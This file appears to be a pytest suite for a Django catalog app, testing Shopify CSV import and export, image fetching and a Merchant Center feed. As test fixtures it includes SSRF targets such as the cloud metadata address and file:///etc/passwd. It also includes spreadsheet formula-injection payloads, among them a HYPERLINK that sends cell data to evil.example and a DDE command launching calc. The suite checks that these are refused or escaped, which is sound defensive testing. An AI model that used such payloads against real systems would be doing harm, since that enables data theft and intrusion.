"""The shop round trip: a Shopify product CSV in, images fetched safely, approved images out at public links."""
from __future__ import annotations

import csv
import io
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.core.management import call_command
from PIL import Image

from catalog.formats import shopify_csv as shop
from catalog.demo_data import DEMO_PHOTO
from catalog.fetch import FetchRefused, fetch
from catalog.models import Product, ProductPhoto

PNG = DEMO_PHOTO.read_bytes()


class ImageServer(BaseHTTPRequestHandler):
    """A local shop CDN: real images, redirects, huge and slow answers."""

    def log_message(self, *args):  # quiet
        pass

    def do_GET(self):
        if self.path == "/headphones.png":
            self._send(200, PNG, "image/png")
        elif self.path == "/second.png":
            buffer = io.BytesIO()
            Image.new("RGB", (64, 64), (200, 30, 30)).save(buffer, format="PNG")
            self._send(200, buffer.getvalue(), "image/png")
        elif self.path == "/to-private":
            self.send_response(302)
            self.send_header("Location", "http://10.0.0.1/image.png")
            self.end_headers()
        elif self.path == "/to-metadata":
            self.send_response(301)
            self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
            self.end_headers()
        elif self.path == "/huge.png":
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(200 * 1024 * 1024))
            self.end_headers()
            try:
                self.wfile.write(PNG[:1024])
            except OSError:
                pass
        elif self.path == "/endless.png":  # no Content-Length: the cap must stop it while reading
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            try:
                for _ in range(4096):
                    self.wfile.write(b"\0" * 65536)
            except OSError:
                pass
        elif self.path == "/drip.png":
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PNG)))
            self.end_headers()
            try:
                for byte in PNG[:100]:
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:
                pass
        elif self.path == "/odd-length.png":  # a Content-Length that isdigit() accepts and int() refuses
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", "\u00b2")
            self.end_headers()
            self.wfile.write(PNG)
        elif self.path == "/to-bad-port":
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:99999/x.png")
            self.end_headers()
        elif self.path == "/page.html":
            self._send(200, b"<html><body>not an image</body></html>", "image/png")  # lies about its type
        else:
            self._send(404, b"missing", "text/plain")

    def _send(self, status, body, content_type):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def image_server(settings):
    server = ThreadingHTTPServer(("127.0.0.1", 0), ImageServer)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    settings.SDSTUDIO_FETCH_ALLOW_HOSTS = ["127.0.0.1"]  # the test-only exception for this local server
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def shopify_csv(base: str) -> str:
    """A Shopify product CSV as its admin exports it (columns from Shopify's published template)."""
    columns = ["Handle", "Title", "Body (HTML)", "Vendor", "Product Category", "Type", "Tags", "Published",
               "Option1 Name", "Option1 Value", "Option2 Name", "Option2 Value", "Option3 Name", "Option3 Value",
               "Variant SKU", "Variant Grams", "Variant Inventory Tracker", "Variant Inventory Qty", "Variant Inventory Policy",
               "Variant Fulfillment Service", "Variant Price", "Variant Compare At Price", "Variant Requires Shipping",
               "Variant Taxable", "Variant Barcode", "Image Src", "Image Position", "Image Alt Text", "Gift Card",
               "SEO Title", "SEO Description", "Variant Image", "Variant Weight Unit", "Cost per item", "Status"]
    rows = [
        {"Handle": "wireless-headphones", "Title": 'Wireless Headphones "Studio", Black',
         "Body (HTML)": '<p>Great <strong>sound</strong> &amp; 40 h battery.</p><script>alert("x")</script><ul><li>USB-C</li></ul>',
         "Vendor": "Acme Audio", "Product Category": "Electronics > Audio > Headphones", "Type": "Headphones",
         "Tags": "audio, wireless", "Published": "true", "Option1 Name": "Color", "Option1 Value": "Black",
         "Variant SKU": "HP-BLK-01", "Variant Price": "99.00", "Variant Barcode": "4.006381333931E+12",
         "Image Src": f"{base}/headphones.png", "Image Position": "1", "Image Alt Text": "Front", "Status": "active"},
        {"Handle": "wireless-headphones", "Option1 Value": "White", "Variant SKU": "HP-WHT-01", "Variant Price": "99.00",
         "Variant Barcode": "4.00638E+12"},
        {"Handle": "wireless-headphones", "Image Src": f"{base}/second.png", "Image Position": "2", "Image Alt Text": "Side"},
        {"Handle": "ceramic-mug", "Title": "Ceramic mug", "Body (HTML)": "Holds 350 ml", "Vendor": "Acme Home",
         "Type": "Mug", "Published": "false", "Option1 Name": "Title", "Option1 Value": "Default Title",
         "Variant SKU": "MUG-350", "Variant Barcode": "0012345678905", "Image Src": f"{base}/missing.png", "Status": "draft"},
        {"Handle": "", "Title": "A row without a handle"},
    ]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


@pytest.mark.django_db
def test_a_shopify_csv_goes_in_and_the_approved_images_come_back_at_public_links(image_server, client, reviewer, tmp_path, capsys):
    from conftest import finished_job
    from evaluation.services import decision_record

    # given a Shopify export imported from the command line
    path = tmp_path / "products_export.csv"
    path.write_text(shopify_csv(image_server), encoding="utf-8")
    with pytest.raises(Exception) as caught:  # two rows cannot be imported: the command says so and fails
        call_command("import_catalog", str(path))
    assert "not imported" in str(caught.value)
    output = capsys.readouterr()
    assert "created 2, updated 0, variants 3, images 2, errors 2" in output.out
    assert "the Handle column is empty" in output.err and "missing.png not fetched: The server answered 404" in output.err
    assert "shortened by a spreadsheet" in output.err  # 4.00638E+12 lost its digits: said, kept as written
    # then one product per handle, with what the shop knows about it
    headphones = Product.objects.get(handle="wireless-headphones")
    assert headphones.sku == "wireless-headphones" and headphones.name == 'Wireless Headphones "Studio", Black'
    assert headphones.description == "Great sound & 40 h battery.\nUSB-C"  # HTML stripped, never stored raw
    assert (headphones.vendor, headphones.product_type, headphones.shop_status) == ("Acme Audio", "Headphones", "active")
    assert [(v.sku, v.barcode, v.options) for v in headphones.variants.all()] == [
        ("HP-BLK-01", "4006381333931", {"Color": "Black"}), ("HP-WHT-01", "4.00638E+12", {"Color": "White"})]
    assert headphones.photos.count() == 2 and Product.objects.get(handle="ceramic-mug").shop_status == "draft"
    # when an output of the headphones is approved
    job = finished_job(product=headphones)
    decision_record(job=job, user=reviewer, decision="approved")
    job.refresh_from_db()
    assert job.public_token and len(job.public_token) >= 43
    # then the Shopify export carries handles, titles and SKUs, and an image row at the public link
    call_command("export_shop", str(tmp_path / "out.csv"), format="shopify", base_url="https://studio.example")
    exported = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    by_handle = {}
    for row in exported:
        by_handle.setdefault(row["Handle"], []).append(row)
    assert by_handle["wireless-headphones"][0]["Title"] == 'Wireless Headphones "Studio", Black'
    assert [r["Variant SKU"] for r in by_handle["wireless-headphones"] if r["Variant SKU"]] == ["HP-BLK-01", "HP-WHT-01"]
    image_rows = [r for r in by_handle["wireless-headphones"] if r["Image Src"]]
    assert len(image_rows) == 1 and image_rows[0]["Image Position"] == "3"  # after the shop's own two images
    link = image_rows[0]["Image Src"]
    assert link == f"https://studio.example/p/{job.public_token}.png"
    # and anyone (no login) gets the PNG with its metadata intact
    client.logout()
    response = client.get(link.removeprefix("https://studio.example"))
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    body = b"".join(response.streaming_content)
    assert body == job.output.open("rb").read()
    served = Image.open(io.BytesIO(body))
    assert "trainedAlgorithmicMedia" in served.text["XML:com.adobe.xmp"] and "Seed: 42" in served.text["parameters"]
    # and revoking the approval makes the link answer 410 Gone
    decision_record(job=job, user=reviewer, decision="rejected", reason="the cable is missing")
    assert client.get(link.removeprefix("https://studio.example")).status_code == 410
    # nothing that was never approved has a link, and a made-up one is 404
    assert client.get("/p/not-a-token.png").status_code == 404


@pytest.mark.django_db
def test_the_merchant_center_feed_is_reachable_with_its_token_only(client, reviewer, merchandiser, admin_user):
    from conftest import finished_job
    from evaluation.services import decision_record

    product = Product.objects.create(sku="=HYPERLINK", name="A formula in a SKU")
    job = finished_job(product=product)
    decision_record(job=job, user=reviewer, decision="approved")
    job.refresh_from_db()
    from catalog.services import feed_token_create

    token = feed_token_create(user=admin_user).token
    response = client.get(f"/catalog/shop/merchant-center.tsv?token={token}")
    assert response.status_code == 200
    lines = response.content.decode().splitlines()
    assert lines[0] == "id\timage_link\tadditional_image_link"
    offer, link, _ = lines[1].split("\t")
    assert offer == "'=HYPERLINK" and link.endswith(f"/p/{job.public_token}.png")  # safe in a spreadsheet
    assert client.get("/catalog/shop/merchant-center.tsv?token=wrong").status_code == 403
    assert client.get("/catalog/shop/merchant-center.tsv").status_code == 403
    feed_token_create(user=admin_user)  # a new link revokes the old one
    assert client.get(f"/catalog/shop/merchant-center.tsv?token={token}").status_code == 403


@pytest.fixture
def connections_out(monkeypatch):
    """Every connection the fetcher opens, and a guard: it may reach this machine's loopback test server only.

    The refusal cases name real private and metadata addresses; if the fetcher regressed it must fail here,
    not send a packet to them.
    """
    from catalog import fetch as fetcher

    opened, real = [], fetcher._open_socket

    def guarded(address, port, timeout):
        opened.append(address)
        if address != "127.0.0.1":
            raise ConnectionRefusedError(f"test guard: the fetcher tried to connect to {address}")
        return real(address, port, timeout)

    monkeypatch.setattr(fetcher, "_open_socket", guarded)
    return opened


@pytest.mark.django_db
def test_the_fetcher_refuses_what_is_not_a_public_image(image_server, settings, product, connections_out):
    settings.SDSTUDIO_FETCH_TIMEOUT = 2
    settings.SDSTUDIO_FETCH_MAX_BYTES = 4 * 1024 * 1024
    allowed = image_server
    cases = {
        "http://127.0.0.1/image.png": "not a public internet address",
        "http://169.254.169.254/latest/meta-data/": "not a public internet address",
        "http://[::1]/image.png": "not a public internet address",
        "http://10.1.2.3/image.png": "not a public internet address",
        "http://[::ffff:127.0.0.1]/image.png": "not a public internet address",
        "file:///etc/passwd": "Only http and https",
        "ftp://example.com/image.png": "Only http and https",
        "http://user:secret@example.com/image.png": "user name or password",
        f"{allowed}/to-private": "10.0.0.1, which is not a public internet address",
        f"{allowed}/to-metadata": "169.254.169.254, which is not a public internet address",
        f"{allowed}/huge.png": "the limit is",
        f"{allowed}/endless.png": "over the",
        f"{allowed}/drip.png": "took longer than 2 s",
    }
    settings.SDSTUDIO_FETCH_ALLOW_HOSTS = []  # the private-address cases must be refused as in production
    for url, reason in list(cases.items())[:8]:
        with pytest.raises(FetchRefused, match=reason):
            fetch(url)
    settings.SDSTUDIO_FETCH_ALLOW_HOSTS = ["127.0.0.1"]  # the local server itself, but not where it redirects
    for url, reason in list(cases.items())[8:]:
        started = time.monotonic()
        with pytest.raises(FetchRefused, match=reason):
            fetch(url)
        assert time.monotonic() - started < 6, url
    # through the import each refusal is a row error, the product still created, and nothing stored
    settings.SDSTUDIO_FETCH_ALLOW_HOSTS = []
    rows = [(i + 2, {"Handle": "refused-images", "Title": "Refused images" if i == 0 else "", "Image Src": url})
            for i, url in enumerate(list(cases)[:8])]
    report = shop.shopify_import(rows=rows)
    assert report.created == 1 and len(report.errors) == 8 and [line for line, _ in report.errors] == list(range(2, 10))
    assert not ProductPhoto.objects.filter(product__handle="refused-images").exists()
    # a page that claims to be a PNG is judged by its bytes
    settings.SDSTUDIO_FETCH_ALLOW_HOSTS = ["127.0.0.1"]
    report = shop.shopify_import(rows=[(2, {"Handle": "liar", "Title": "Liar", "Image Src": f"{allowed}/page.html"})])
    assert "not a JPEG, PNG or WebP image" in report.errors[0][1]
    # and no refused address was ever connected to: every connection went to the local test server
    assert connections_out and set(connections_out) == {"127.0.0.1"}


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_the_shop_page_imports_in_the_background_with_progress_and_a_report(image_server, client, merchandiser, redis_conn):
    from catalog.models import ShopImport
    from conftest import run_shop_worker_burst

    client.force_login(merchandiser)
    # a file that is not a Shopify export is refused at once, with why
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post("/catalog/shop/", {"action": "import", "csv_file": SimpleUploadedFile("x.csv", b"sku,name\nA,B\n")})
    assert response.status_code == 400 and "not a Shopify product CSV" in response.content.decode()
    # a Shopify export is queued for the shop worker, and its page says so
    upload = SimpleUploadedFile("products_export.csv", shopify_csv(image_server).encode(), "text/csv")
    response = client.post("/catalog/shop/", {"action": "import", "csv_file": upload})
    run = ShopImport.objects.get()
    assert response.status_code == 302 and response["Location"] == run.get_absolute_url()
    page = client.get(run.get_absolute_url()).content.decode()
    assert "waiting for the shop worker" in page and 'http-equiv="refresh"' in page and run.total == 2
    # the shop worker (a real process; it is allowed the local image server) imports it and fetches the images
    run_shop_worker_burst(SDSTUDIO_FETCH_ALLOW_HOSTS="127.0.0.1")
    run.refresh_from_db()
    assert (run.status, run.done, run.total) == ("done", 2, 2)
    page = client.get(run.get_absolute_url()).content.decode()
    assert "2</strong> products created" in page and "images 2" not in page and "2 images fetched" in page
    assert "The server answered 404" in page and 'http-equiv="refresh"' not in page
    assert Product.objects.get(handle="wireless-headphones").photos.count() == 2


@pytest.mark.django_db
def test_one_bad_row_is_that_rows_error_and_the_rest_of_the_file_imports(image_server, connections_out):
    # given rows A, B, C where B's image link or position is malformed in each of the ways a file or server can be
    bad_sources = {
        "http://127.0.0.1:99999/x.png": "not a valid URL",
        "http://[::1/x.png": "not a valid URL",
        "http://" + "a" * 64 + ".example/x.png": "not a valid host name",
        f"{image_server}/to-bad-port": "not a valid URL",
    }
    for number, (src, reason) in enumerate(bad_sources.items()):
        rows = [(2, {"Handle": f"a-{number}", "Title": "A", "Image Src": f"{image_server}/second.png"}),
                (3, {"Handle": f"b-{number}", "Title": "B", "Image Src": src}),
                (4, {"Handle": f"c-{number}", "Title": "C", "Image Src": f"{image_server}/headphones.png"})]
        # when it is imported
        report = shop.shopify_import(rows=rows)
        # then B's image is B's error, with why; A and C are imported with their images
        assert report.created == 3 and report.images == 2, (src, report.errors)
        assert [line for line, _ in report.errors] == [3] and reason in report.errors[0][1], (src, report.errors)
        assert Product.objects.get(handle=f"c-{number}").photos.count() == 1
    # a server whose Content-Length is "²": the header is no number, the cap on the body still holds, the image lands
    report = shop.shopify_import(rows=[(2, {"Handle": "odd", "Title": "Odd", "Image Src": f"{image_server}/odd-length.png"})])
    assert not report.errors and report.images == 1
    # an Image Position of "²" or 20 digits is a warning on its row, never a crash
    report = shop.shopify_import(rows=[(2, {"Handle": "pos", "Title": "P", "Image Position": "\u00b2"}),
                                       (3, {"Handle": "pos", "Image Position": "9" * 20}),
                                       (4, {"Handle": "after", "Title": "After"})])
    assert report.created == 2 and not report.errors
    assert [line for line, _ in report.warnings] == [2, 3] and "not a whole number" in report.warnings[0][1]


@pytest.mark.django_db
def test_the_shopify_export_is_safe_in_a_spreadsheet_and_round_trips(client, merchandiser):
    from conftest import finished_job
    from evaluation.services import decision_record

    # given products whose texts were written to run as formulas in a spreadsheet
    attacks = {"Handle": "=cmd-handle", "Title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "Vendor": "+cmd|' /C calc'!A0",
               "Type": "-2+3", "Tags": "@SUM(1+1)", "Option1 Name": "=Colour", "Option1 Value": "\t=1+1",
               "Variant SKU": "CMD-1", "Variant Barcode": "=1+2", "Body (HTML)": " =2*3"}
    report = shop.shopify_import(rows=[(2, attacks)], fetch_images=False)
    assert report.created == 1, report.errors
    product = Product.objects.get(handle="=cmd-handle")
    job = finished_job(product=product)
    decision_record(job=job, user=make_reviewer(), decision="approved")
    # when it is exported, from the shop page and from the API
    client.force_login(merchandiser)
    exported = client.get("/catalog/shop/shopify-products.csv").content.decode()
    # then no cell of any row starts (after blanks) with = + - @: each such cell is escaped with an apostrophe
    rows = list(csv.reader(io.StringIO(exported)))
    assert len(rows) == 3  # the header, the product, its approved image
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [cell for cell in cells if cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")]
    assert not dangerous, dangerous
    assert rows[1][0] == "'=cmd-handle" and rows[1][1].startswith("'=HYPERLINK") and rows[2][18].startswith("'=HYPERLINK")
    # and re-importing the export gives back the same texts (the apostrophe is the export's, not the data's)
    header = rows[0]
    again = shop.shopify_import(rows=[(2, dict(zip(header, rows[1])))], fetch_images=False)
    assert again.updated == 1 and not again.errors
    product.refresh_from_db()
    assert (product.name, product.vendor, product.tags) == (attacks["Title"], attacks["Vendor"], attacks["Tags"])


def make_reviewer():
    from conftest import make_user

    return make_user("export-reviewer", "Reviewers")


@pytest.mark.django_db
def test_handles_that_differ_only_in_case_never_overwrite_each_other():
    # given two products whose handles differ only in case, in one file
    report = shop.shopify_import(rows=[(2, {"Handle": "mug", "Title": "Mug", "Vendor": "First"}),
                                       (3, {"Handle": "Mug", "Title": "Mug too", "Vendor": "Second"})], fetch_images=False)
    # then the first is imported and the second is reported, not merged into it
    assert report.created == 1 and [line for line, _ in report.errors] == [3]
    assert "only in case" in report.errors[0][1]
    assert Product.objects.get(handle="mug").vendor == "First"
    # and a later file with the other spelling changes nothing either
    report = shop.shopify_import(rows=[(2, {"Handle": "MUG", "Title": "Mug three", "Vendor": "Third"})], fetch_images=False)
    assert report.created == report.updated == 0 and "only in case" in report.errors[0][1]
    assert Product.objects.get().vendor == "First"


def test_the_merchant_feed_carries_ten_additional_images_as_merchant_center_allows(db, product):
    import csv
    import io

    from catalog import formats
    from catalog.published import PublishedImage

    images = [PublishedImage(product_id=product.pk, path=f"/p/token{i}.png", made_with="product in a new scene") for i in range(12)]
    rows = list(csv.reader(io.StringIO(formats.get("merchant").export("https://shop.example", images)), delimiter="\t"))
    assert rows[0] == ["id", "image_link", "additional_image_link"]
    (offer, first, more), = rows[1:]
    assert offer == product.sku and first == "https://shop.example/p/token0.png"
    assert more.split(",") == [f"https://shop.example/p/token{i}.png" for i in range(1, 11)]  # 10, the specification's limit
